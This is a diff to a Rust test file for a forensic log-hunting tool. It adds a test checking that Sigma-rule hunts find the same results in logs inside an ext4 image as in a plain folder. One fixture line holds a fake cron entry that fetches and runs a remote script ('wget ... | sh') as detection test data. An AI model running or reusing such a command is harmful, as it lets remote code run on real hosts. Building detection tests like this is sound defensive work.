@@ -155,7 +155,7 @@ fn the_benign_twin_image_is_clean_and_ext2_reads_the_same() {
     let t = Tree::new();
     let root = server(&t, false);
     for kind in ["ext4", "ext3", "ext2"] {
-        let vol = t.path(&format!("twin.{kind}"));
+        let vol = t.path(format!("twin.{kind}"));
         ext_volume(&vol, kind, &root, 16, &[]);
         let (code, recs) = scan(&vol);
         assert_eq!(code, 0, "{kind}: {recs:#?}");
@@ -188,5 +188,52 @@ fn a_cut_ext4_image_is_incomplete_not_a_crash() {
         );
         let summary = of_type(&recs, "summary")[0];
         assert_eq!(summary["complete"], false, "{summary}");
+    }
+}
+
+#[test]
+fn hunt_reads_the_logs_inside_an_ext4_image_as_in_the_folder() {
+    if !tools() {
+        return;
+    }
+    let logs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ferret-logs/tests/data/logs");
+    let t = Tree::new();
+    t.file(
+        "srv/var/log/apache2/access.log",
+        std::fs::read(logs.join("access_combined.log")).unwrap(),
+    );
+    t.file("srv/var/log/syslog", std::fs::read(logs.join("syslog_rfc3164.log")).unwrap());
+    t.file(
+        "srv/var/log/wget.log",
+        "Mar  3 01:02:06 web01 cron[9]: (root) CMD (wget http://203.0.113.7/x | sh)\n",
+    );
+    let root = t.root().join("srv");
+    let vol = t.path("logs.ext4");
+    ext_volume(&vol, "ext4", &root, 16, &[]);
+    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sigma");
+    let hunt = |target: &Path| {
+        let out = ferret()
+            .args(["hunt", "--format", "jsonl", "--sigma"])
+            .arg(&rules)
+            .arg(target)
+            .output()
+            .unwrap();
+        let recs: Vec<Value> = String::from_utf8_lossy(&out.stdout)
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        (out.status.code().unwrap(), recs)
+    };
+    let (code, dir) = hunt(&root);
+    assert_eq!(code, 1, "{dir:#?}");
+    let want = findings(&dir, &root.to_string_lossy());
+    assert!(want.iter().any(|(p, _)| p == "var/log/apache2/access.log"), "{want:?}");
+    let (code, img) = hunt(&vol);
+    assert_eq!(code, 1, "{img:#?}");
+    assert_eq!(findings(&img, ""), want);
+    let events = |recs: &[Value]| of_type(recs, "summary")[0]["counters"]["events_read"].clone();
+    assert_eq!(events(&img), events(&dir));
+    for f in of_type(&img, "finding") {
+        assert_eq!(f["provenance"]["filesystem"], "ext4", "{f}");
     }
 }
